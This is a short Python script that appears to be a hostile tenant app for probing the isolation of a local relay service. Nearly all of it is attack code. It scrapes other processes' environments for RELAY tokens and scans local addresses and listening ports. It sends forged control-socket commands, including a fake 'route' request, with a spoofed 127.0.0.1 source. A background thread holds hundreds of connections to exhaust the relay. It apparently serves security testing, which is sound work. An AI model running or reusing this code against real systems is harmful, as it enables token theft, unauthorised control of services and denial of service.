"""Looks for the relay that shares its network, says all to it that could open a door, and takes up what it can."""

import os
import socket
import threading
from pathlib import Path

from serve import serve

RELAY = 9000
WORDS = (
    b'control.sock\n{"do": "listening"}\n',
    b" control.sock\n{}\n",
    b"app.sock\nGET /echo/x HTTP/1.1\r\n\r\n",
    b'{"do": "listening"}\n',
    b"0" * 32 + b' control.sock\n{"do": "route", "name": "app.sock", "port": 1}\n',
    b"GET / HTTP/1.1\r\n\r\n",
)
kept = []


def own_addresses():
    """This namespace's own, as the kernel lists them."""
    lines = Path("/proc/net/fib_trie").read_text().splitlines()
    found = {lines[n - 1].split()[-1] for n, line in enumerate(lines) if "/32 host LOCAL" in line}
    return sorted(found | {"127.0.0.1", "127.0.0.2"})


def ports():
    """What listens here besides this app, as the kernel tells."""
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    found = {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"}
    return sorted((found | {RELAY}) - {int(os.environ["PORT"])})


def said(host, port, words, source=""):
    """What comes of these words."""
    with socket.socket() as sock:
        sock.settimeout(1)
        try:
            if source:
                sock.bind((source, 0))
            sock.connect((host, port))
            sock.sendall(words)
            return sock.recv(1000)
        except OSError:
            return b""


def tokens():
    """Every process's environment that can be read."""
    found = []
    for place in Path("/proc").glob("[0-9]*/environ"):
        try:
            found += [word for word in place.read_bytes().split(b"\0") if word.startswith(b"RELAY")]
        except OSError:
            continue
    return found


def crowd():
    """Takes up connections and keeps them, over and over."""
    while True:
        for host in own_addresses():
            sock = socket.socket()
            sock.settimeout(0.2)
            try:
                sock.connect((host, RELAY))
                kept.append(sock)
            except OSError:
                sock.close()
        del kept[:-400]


def reached():
    """What was got out of it."""
    found = [str(token) for token in tokens()]
    found += [path for path in ("/sock", "/sock/control.sock") if Path(path).exists()]
    for port in ports():
        for host in own_addresses():
            for source in ("", "127.0.0.1"):
                found += [f"{host}:{port} {words!r}" for words in WORDS if said(host, port, words, source)]
    return found


threading.Thread(target=crowd, daemon=True).start()
serve(reached=reached)
